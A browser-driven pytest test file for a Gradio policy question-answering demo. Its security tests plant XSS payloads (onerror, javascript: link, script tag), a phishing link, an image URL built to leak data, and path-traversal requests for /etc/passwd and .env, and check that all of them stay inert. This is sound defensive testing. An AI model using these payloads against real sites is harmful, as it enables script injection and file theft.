"""A real browser (Debian chromium driven by Playwright) against the demo server."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not os.path.exists(CHROMIUM) and not os.environ.get("CI"),
        reason="Debian chromium is not installed (CI installs it)",
    ),
]


SECRET = "sk-test-never-served-7f3a"
ADMIN_PASSWORD = "admin-test-pass-3c1d"
AUDITOR_PASSWORD = "auditor-test-pass-9e2b"  # the throttling test locks this one
STAFF_PASSWORD = "staff-test-pass-51aa"  # granted the "internal" label
VISITOR_PASSWORD = "visitor-test-pass-0d7c"  # reads public documents only
HOSTILE = (
    '第一条 网络安全须知：<img src=x onerror="window.__pqa_xss=1">本条说明申报安全。\n'
    "第二条 申报安全提示：详见 https://evil.example/phish 网址和 "
    "[点此申报](javascript:window.__pqa_xss=2)，<script>window.__pqa_xss=3</script>切勿点击。\n"
    "第三条 申报图片说明：![logo](http://127.0.0.1:9/leak.png?d=secret)\n"
)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


demo_server_root: list[str] = []  # the server's working directory, for the traversal tests


@pytest.fixture(scope="module")
def demo_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = tmp_path_factory.mktemp("server")
    demo_server_root[:] = [str(root)]
    port = free_port()
    from tests.eval.test_run import write_set

    (root / "evals").mkdir()
    write_set(root / "evals" / "tiny-set")
    env = {
        **os.environ,
        "POLICYQA_INDEX_DIR": str(root / "index"),
        "POLICYQA_CACHE_DIR": str(root / "cache"),
        "POLICYQA_EVAL_DATA_DIR": str(root / "evals"),
        "POLICYQA_ADMIN_USERS": f"admin:{ADMIN_PASSWORD},auditor:{AUDITOR_PASSWORD}",
        "POLICYQA_CHAT_USERS": f"staff:{STAFF_PASSWORD},visitor:{VISITOR_PASSWORD}",
        "POLICYQA_ACCESS_LABELS": "staff=internal",
    }
    exe = str(Path(sys.executable).with_name("policyqa"))
    # A hostile document beside the demo corpus, and secrets the server must never hand out.
    (root / "hostile").mkdir()
    (root / "hostile" / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    (root / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n", encoding="utf-8")
    subprocess.run([exe, "ingest", str(root / "hostile")], env=env, check=True, cwd=root)
    # One notice as two sites reprinted it.
    (root / "reprints").mkdir()
    for site in ("市政府网", "市文旅局网"):
        (root / "reprints" / f"{site}.txt").write_text(VOUCHERS, encoding="utf-8")
    subprocess.run([exe, "ingest", str(root / "reprints")], env=env, check=True, cwd=root)
    log = open(root / "server.log", "w")  # noqa: SIM115 - closed below
    proc = subprocess.Popen(
        [exe, "demo", "--port", str(port)], env=env, stdout=log, stderr=log, cwd=root
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(f"{url}/healthz", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                if proc.poll() is not None:
                    raise RuntimeError((root / "server.log").read_text()) from None
                time.sleep(0.5)
        else:
            raise RuntimeError("server did not start: " + (root / "server.log").read_text())
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()


def sign_in(page: object, username: str, password: str) -> None:
    """Fill Gradio's login form and wait for the chat."""
    page.get_by_label("username").fill(username)  # type: ignore[attr-defined]
    page.get_by_label("password").fill(password)  # type: ignore[attr-defined]
    page.get_by_role("button", name="Login").click()  # type: ignore[attr-defined]
    page.locator("#question textarea").wait_for(timeout=60_000)  # type: ignore[attr-defined]


@pytest.fixture
def browser(demo_server: str) -> Iterator[object]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def page(browser: object, demo_server: str) -> object:
    """The chat, signed in as a visitor (public documents only)."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})  # type: ignore[attr-defined]
    page.goto(demo_server, wait_until="load")
    sign_in(page, "visitor", VISITOR_PASSWORD)
    return page


def shoot_on_failure(page: object, name: str) -> str:
    folder = Path(tempfile.gettempdir()) / "policyqa-screenshots"
    folder.mkdir(exist_ok=True)
    path = folder / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)  # type: ignore[attr-defined]
    return str(path)


def test_chinese_question_shows_answer_and_cited_passage(page) -> None:  # type: ignore[no-untyped-def]
    try:
        assert "摘录式" in page.locator("#mode").inner_text()
        page.locator("#question textarea").fill("稳岗返还的比例是多少？")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        sources.locator(".pqa-source").first.wait_for(timeout=60_000)
        chat_text = page.locator("#chat").inner_text()
        assert "实际缴纳失业保险费的60%予以返还" in chat_text and "[1]" in chat_text
        panel = sources.inner_text()
        assert "第四条 稳岗返还" in panel and "示例市支持中小微企业纾困发展若干措施" in panel
        marked = sources.locator("mark").first.inner_text()
        assert "60%予以返还" in marked
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "chinese-question"))
        raise


VOUCHERS = """示例市文旅消费券发放办法
一、发放对象
在本市登记的游客可领取文旅消费券，每人每月限领一次，每次面额为五十元，可在景区、剧院使用。
"""


def test_a_reprinted_passage_shows_once_with_its_copy_named(page) -> None:  # type: ignore[no-untyped-def]
    try:
        page.locator("#question textarea").fill("文旅消费券每人每月能领几次？")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        sources.locator(".pqa-source").first.wait_for(timeout=60_000)
        cards = sources.locator(".pqa-source")
        assert "每人每月限领一次" in cards.first.inner_text()
        # The other site's copy is named, with a link to it.
        copies = cards.first.locator(".pqa-source-copies")
        named = copies.inner_text()
        assert named.startswith("同见") and ("市政府网.txt" in named) != ("市文旅局网.txt" in named)
        assert copies.locator("a").count() == 1
        # Once: no other card quotes the same passage.
        assert (
            sum("每人每月限领一次" in cards.nth(i).inner_text() for i in range(cards.count())) == 1
        )
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "reprint"))
        raise


def test_next_article_follow_up_in_the_chat(page) -> None:  # type: ignore[no-untyped-def]
    """The chat sends its turns with the question: "下一条呢？" steps from the article the
    previous answer quoted to the next one."""
    try:
        sources = page.locator("#sources")
        page.locator("#question textarea").fill("稳岗返还的比例是多少？")
        page.locator("#ask").click()
        sources.get_by_text("第四条 稳岗返还").first.wait_for(timeout=60_000)
        page.locator("#question textarea").fill("下一条呢？")
        page.locator("#ask").click()
        sources.get_by_text("第五条 贷款贴息").first.wait_for(timeout=60_000)
        assert "单户企业年度贴息总额不超过100万元" in page.locator("#chat").inner_text()
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "next-article"))
        raise


def test_out_of_scope_question_is_refused_in_the_browser(page) -> None:  # type: ignore[no-untyped-def]
    try:
        page.locator("#question textarea").fill("What is the capital of France?")
        page.locator("#question textarea").press("Enter")
        page.get_by_text("don't cover this question").first.wait_for(timeout=60_000)
        assert "Possibly related" in page.locator("#sources").inner_text()
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "refusal"))
        raise


def test_evaluation_tab_runs_a_set_with_results(page, demo_server: str) -> None:  # type: ignore[no-untyped-def]
    try:
        assert page.get_by_role("tab", name="评测 / Evaluation").count() == 0  # not on the chat
        page.goto(f"{demo_server}/admin", wait_until="load")  # redirected to /admin/
        page.get_by_label("username").fill("admin")
        page.get_by_label("password").fill(ADMIN_PASSWORD)
        page.get_by_role("button", name="Login").click()
        page.get_by_role("tab", name="评测 / Evaluation").click()
        page.locator("#eval-run").click()
        page.locator("#eval-metrics").get_by_text("doc_hit@5").wait_for(timeout=120_000)
        questions = page.locator("#eval-questions").inner_text()
        assert "稳岗返还按什么比例返还？" in questions and "pass" in questions
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "evaluation-tab"))
        raise


def login(url: str, username: str, password: str) -> int:
    body = urllib.parse.urlencode({"username": username, "password": password}).encode()
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_admin_without_its_slash_redirects(demo_server: str) -> None:
    import http.client
    from urllib.parse import urlsplit

    parts = urlsplit(demo_server)
    conn = http.client.HTTPConnection(parts.hostname or "127.0.0.1", parts.port, timeout=10)
    conn.request("GET", "/admin")
    response = conn.getresponse()
    assert (response.status, response.getheader("location")) == (308, "/admin/")


def test_admin_pages_need_a_login_and_failures_are_throttled(demo_server: str) -> None:
    with pytest.raises(urllib.error.HTTPError) as refused:  # nothing of the admin app before
        urllib.request.urlopen(f"{demo_server}/admin/config", timeout=10)  # a login
    assert refused.value.code in (401, 403)
    assert login(f"{demo_server}/admin/login", "guesser", "wrong") == 400
    assert login(f"{demo_server}/admin/login", "auditor", AUDITOR_PASSWORD) == 200
    for _ in range(5):
        assert login(f"{demo_server}/admin/login", "auditor", "wrong") == 400
    # Locked now: even the right password is refused until the lock expires.
    assert login(f"{demo_server}/admin/login", "auditor", AUDITOR_PASSWORD) == 400


def test_hostile_document_text_stays_inert(page) -> None:  # type: ignore[no-untyped-def]
    try:
        page.locator("#question textarea").fill("申报安全提示是什么？")
        page.locator("#ask").click()
        page.locator("#sources .pqa-source").first.wait_for(timeout=60_000)
        chat = page.locator("#chat")
        chat.get_by_text("evil.example/phish").first.wait_for(timeout=30_000)
        # Shown as text, exactly as written ...
        assert "[点此申报](javascript:window.__pqa_xss=2)" in chat.inner_text()
        assert "<script>window.__pqa_xss=3</script>" in chat.inner_text()
        page.locator("#question textarea").fill("申报图片说明是什么？")
        page.locator("#ask").click()
        sources = page.locator("#sources")
        sources.get_by_text("leak.png").first.wait_for(timeout=30_000)
        assert "![logo](http://127.0.0.1:9/leak.png?d=secret)" in sources.inner_text()
        # ... but nothing in it ran, loaded or became a link.
        assert page.evaluate("window.__pqa_xss") is None
        for area in ("#chat", "#sources"):
            srcs = page.locator(f"{area} img").evaluate_all("els => els.map(e => e.src)")
            assert not [s for s in srcs if "127.0.0.1:9" in s or s.endswith("/x")], srcs
            hrefs = page.locator(f"{area} a").evaluate_all("els => els.map(e => e.href)")
            assert not [h for h in hrefs if "javascript:" in h or "evil.example" in h], hrefs
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "hostile-document"))
        raise


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=.env",
        "/gradio_api/file=../.env",
        "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file={root}/.env",
        "/gradio_api/file={root}/index/registry.sqlite",
        "/file=/etc/passwd",
        "/gradio_api/file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/../../../../etc/passwd",
        "/../.env",
    ],
)
def test_no_file_outside_the_app_is_served(demo_server: str, path: str) -> None:
    root = Path(demo_server_root[0]) if demo_server_root else Path("/nonexistent")
    url = demo_server + path.replace("{root}", str(root))
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            status, body = response.status, response.read()
    except urllib.error.HTTPError as exc:
        status, body = exc.code, exc.read()
    assert (
        SECRET.encode() not in body and b"root:x:0:0" not in body and b"SQLite format" not in body
    )
    assert status in (400, 401, 403, 404, 405), (status, body[:200])


def wait_text(page: object, selector: str, text: str, timeout: int = 30_000) -> None:
    page.wait_for_function(  # type: ignore[attr-defined]
        "([s, t]) => (document.querySelector(s)?.innerText || '').includes(t)",
        arg=[selector, text],
        timeout=timeout,
    )


def table_row(page: object, selector: str, text: str) -> list[str]:
    """The cells of the first Gradio dataframe row holding ``text``."""
    cells: list[list[str]] = page.evaluate(  # type: ignore[attr-defined]
        """([s, t]) => {
            const rows = {};
            for (const c of document.querySelectorAll(s + ' [data-testid^=cell-]')) {
                const [, r, k] = c.dataset.testid.split('-');
                (rows[r] = rows[r] || [])[+k] = c.innerText.trim();
            }
            return Object.values(rows).filter(r => r.some(x => x && x.includes(t)));
        }""",
        [selector, text],
    )
    assert cells, f"no row with {text!r} in {selector}"
    return cells[0]


def ask_in_chat(page: object, question: str) -> None:
    """Ask and wait until the answer (with its sources) is complete."""
    before = page.locator("#sources .pqa-sources").inner_html()  # type: ignore[attr-defined]
    page.locator("#question textarea").fill(question)  # type: ignore[attr-defined]
    page.locator("#ask").click()  # type: ignore[attr-defined]
    page.wait_for_function(  # type: ignore[attr-defined]
        "b => { const s = document.querySelector('#sources .pqa-sources');"
        " return s && s.innerHTML !== b && !document.querySelector('.progress-text'); }",
        arg=before,
        timeout=60_000,
    )


def test_checklist_clause_citation_and_document_view(page) -> None:  # type: ignore[no-untyped-def]
    try:
        ask_in_chat(page, "我们是一家示例市的小微企业，成立3年，做餐饮的，能申请贷款贴息吗？")
        chat = page.locator("#chat").inner_text()
        assert (
            "申请条件核对" in chat and "✅ 符合 所属行业" in chat and "❔ 待确认 申报材料" in chat
        )
        assert "依据: 《示例市支持中小微企业纾困发展若干措施》（示政办〔2026〕3号" in chat
        link = page.locator("#sources a.pqa-open").first
        assert "第二章 第五条 第二款" in link.inner_text()
        with page.context.expect_page() as opened:
            link.click()
        view = opened.value
        view.wait_for_load_state()
        mark = view.locator("mark#quote")
        assert mark.inner_text().startswith("申请贴息的企业应成立满1年")
        # Scrolled to the highlighted span: it is inside the viewport.
        box = mark.bounding_box()
        assert box is not None and 0 <= box["y"] <= view.viewport_size["height"]
        assert view.evaluate("window.scrollY") > 0
        assert view.locator("header #back").get_attribute("href") == "/"  # a way back
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "checklist-citation"))
        raise


def test_how_to_apply_checklist(page) -> None:  # type: ignore[no-untyped-def]
    try:
        ask_in_chat(page, "稳岗返还怎么申请？")
        chat = page.locator("#chat").inner_text()
        assert "申请指引" in chat and "申请条件核对" not in chat
        assert "❔ 待确认 申报材料: 2. 营业执照复印件；" in chat
        assert "提交方式: 企业通过“示例市企业服务平台”在线提交申请" in chat
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "how-to-apply"))
        raise


def test_a_small_business_sees_the_policies_that_name_it(page) -> None:  # type: ignore[no-untyped-def]
    try:
        ask_in_chat(page, "小微企业能享受哪些扶持？")
        chat = page.locator("#chat").inner_text()
        assert "写到小微企业的共 1 份" in chat and "房租减免、稳岗返还、贷款贴息" in chat
        assert "同时废止" not in chat  # the repeal of the old 小微企业 policy is no answer
        card = page.locator("#sources .pqa-source").first
        assert "本措施适用于在本市依法登记注册" in card.locator("mark").first.inner_text()
        ask_in_chat(page, "第一个政策的申报材料有哪些？")
        assert "营业执照复印件" in page.locator("#chat [data-testid=bot]").last.inner_text()
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "kind-of-enterprise"))
        raise


def test_as_of_filter_and_repealed_policy_warning(page) -> None:  # type: ignore[no-untyped-def]
    try:
        ask_in_chat(page, "首次创业能拿到多少创业补贴？")
        chat = page.locator("#chat").inner_text()
        assert "3万元" in chat and "已被废止" in chat and "示政办〔2026〕3号" in chat
        page.locator("#filters").get_by_text("筛选 / Filters").click()
        box = page.locator("#as-of textarea, #as-of input").first
        assert box.get_attribute("placeholder") == date.today().isoformat()  # not a fixed day
        box.fill("2025-06-01")
        page.locator("#question textarea").fill("首次创业能拿到多少创业补贴？")
        page.locator("#ask").click()
        page.wait_for_function(
            "() => document.querySelectorAll('#chat .message-row, #chat [data-testid=bot]')"
            ".length >= 2 && !document.querySelector('.progress-text')",
            timeout=60_000,
        )
        page.wait_for_timeout(500)
        last = page.locator("#chat [data-testid=bot]").last.inner_text()
        assert "3万元" in last and "已被废止" not in last
        page.locator("#as-of textarea, #as-of input").first.fill("someday")
        page.locator("#ask").click()
        page.get_by_text("is not a date like 2026-03-01").first.wait_for(timeout=30_000)
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "as-of-filter"))
        raise


def test_labels_decide_what_each_user_reads(browser, demo_server: str) -> None:  # type: ignore[no-untyped-def]
    question = "单笔超过50万元的纾困资金由谁审批？"
    views = {}
    for user, password in (("visitor", VISITOR_PASSWORD), ("staff", STAFF_PASSWORD)):
        page = browser.new_context().new_page()
        page.goto(demo_server, wait_until="load")
        sign_in(page, user, password)
        ask_in_chat(page, question)
        views[user] = page.locator("#sources").inner_text() + page.locator("#chat").inner_text()
        if user == "visitor":  # nor can it be picked as a filter
            page.locator("#filters").get_by_text("筛选 / Filters").click()
            page.locator("#documents input").click()
            page.locator("[role=option]").first.wait_for(timeout=30_000)
            options = " ".join(page.locator("[role=option]").all_inner_texts())
            assert "示例市支持中小微企业纾困发展若干措施" in options
            assert "纾困资金内部审批指引" not in options
    assert "纾困资金内部审批指引" in views["staff"]
    assert "纾困资金内部审批指引" not in views["visitor"] and "分管副局长" not in views["visitor"]


def test_thumbs_down_with_a_reason_is_reviewed_and_exported(  # type: ignore[no-untyped-def]
    page, browser, demo_server: str
) -> None:
    import sqlite3

    try:
        ask_in_chat(page, "稳岗返还的比例是多少？")
        page.locator("#chat [data-testid=bot]").last.hover()
        page.locator("#chat button[aria-label='Dislike']").last.click()
        reason = page.locator("#feedback-reason textarea")
        reason.wait_for(timeout=30_000)
        reason.fill("没有说明30人以下企业的条件")
        reason.press("Enter")
        reason.wait_for(state="hidden", timeout=30_000)
        db = Path(demo_server_root[0]) / "feedback.sqlite"
        row = (
            sqlite3.connect(db)
            .execute(
                "SELECT id, rating, reason, principal, question FROM feedback ORDER BY id DESC"
            )
            .fetchone()
        )
        assert row[1:] == (-1, "没有说明30人以下企业的条件", "visitor", "稳岗返还的比例是多少？")

        admin = browser.new_context().new_page()
        admin.goto(f"{demo_server}/admin/", wait_until="load")
        admin.get_by_label("username").fill("admin")
        admin.get_by_label("password").fill(ADMIN_PASSWORD)
        admin.get_by_role("button", name="Login").click()
        admin.get_by_role("tab", name="反馈 / Feedback").click()
        wait_text(admin, "#feedback-table", "没有说明30人以下企业的条件")
        admin.locator("#feedback-id input").fill(str(row[0]))
        admin.locator("#feedback-expected textarea").fill("30人（含）以下的企业")
        admin.locator("#feedback-review").click()
        wait_text(admin, "#feedback-table", "reviewed")
        with admin.expect_download() as download:
            admin.locator("#feedback-export").click()
            admin.locator("#feedback-file a").first.click(timeout=60_000)
        saved = Path(tempfile.mkdtemp()) / "set.zip"
        download.value.save_as(saved)
        import zipfile

        with zipfile.ZipFile(saved) as z:
            queries = z.read("queries.jsonl").decode()
            assert "30人（含）以下的企业" in queries and "稳岗返还的比例是多少？" in queries
            assert "示政办〔2026〕3号" in z.read("corpus.jsonl").decode()
    except BaseException:
        print("screenshot:", shoot_on_failure(page, "feedback"))
        raise


def test_document_management_tab(browser, demo_server: str) -> None:  # type: ignore[no-untyped-def]
    admin = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        admin.goto(f"{demo_server}/admin/", wait_until="load")
        admin.get_by_label("username").fill("admin")
        admin.get_by_label("password").fill(ADMIN_PASSWORD)
        admin.get_by_role("button", name="Login").click()
        table = admin.locator("#doc-table")
        wait_text(admin, "#doc-table", "示政办〔2026〕3号")
        # All twelve columns fit the table: none runs past its right edge.
        overflow = admin.evaluate(
            """() => { const t = document.querySelector('#doc-table');
                       const right = t.getBoundingClientRect().right;
                       return [...t.querySelectorAll('th')].map(h => h.getBoundingClientRect().right - right); }"""
        )
        assert len(overflow) == 12 and max(overflow) <= 1, overflow
        # The title is drawn in the system font stack, not a web font missing from offline hosts.
        family = admin.evaluate("getComputedStyle(document.querySelector('h2')).fontFamily")
        assert "Source Sans" not in family and family.startswith('"Noto Sans"'), family
        assert "已废止 / replaced" in table.inner_text()  # the 2024 policy
        assert "internal" in table.inner_text()
        upload = Path(tempfile.mkdtemp()) / "示例区人才补贴办法.txt"
        upload.write_text(
            "示例区人才补贴办法\n示例区人力资源局\n示人社〔2026〕8号\n"
            "第一条 对新引进的博士给予一次性安家补贴20万元。\n"
            "第二条 本办法自2026年1月1日起施行，有效期至2028年12月31日。\n",
            encoding="utf-8",
        )
        admin.locator("#doc-upload input[type=file]").set_input_files(str(upload))
        admin.locator("#doc-send").click()
        wait_text(admin, "#doc-report", "added", 120_000)
        wait_text(admin, "#doc-table", "示人社〔2026〕8号")
        row = table_row(admin, "#doc-table", "示人社〔2026〕8号")
        assert row[7] == "2028-12-31" and row[8].startswith("现行有效")
        doc_id = row[0]

        admin.locator("#doc-ids textarea").fill(doc_id)
        admin.locator("#doc-reingest").click()
        wait_text(admin, "#doc-report", "unchanged", 60_000)
        admin.locator("#doc-delete").click()
        admin.wait_for_function(
            "() => !document.querySelector('#doc-table').innerText.includes('示人社〔2026〕8号')",
            timeout=30_000,
        )
    except BaseException:
        print("screenshot:", shoot_on_failure(admin, "documents-tab"))
        raise
